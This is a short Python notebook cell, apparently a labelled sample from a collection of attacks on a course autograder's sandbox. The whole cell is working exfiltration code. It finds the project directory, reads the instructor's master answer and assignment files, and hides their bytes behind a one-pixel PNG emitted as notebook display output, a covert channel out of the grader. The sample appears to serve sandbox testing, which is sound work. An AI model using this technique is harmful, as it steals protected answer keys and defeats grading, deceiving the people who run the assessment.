"""Hides what it finds on the disk behind the pixels of a figure.

class: exfiltration
stopped by: the sandbox
deserved: 26
"""

# %% last
import base64
import os
from pathlib import Path

import course_utils
from IPython.display import display

found = b""
project = Path(course_utils.__file__).resolve().parents[1]
for path in [*project.glob("masters/01*/answers.py"), *project.glob("masters/01*/assignment.py")]:
    found += path.read_bytes()
dot = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
display({"image/png": base64.b64encode(base64.b64decode(dot) + found).decode()}, raw=True)
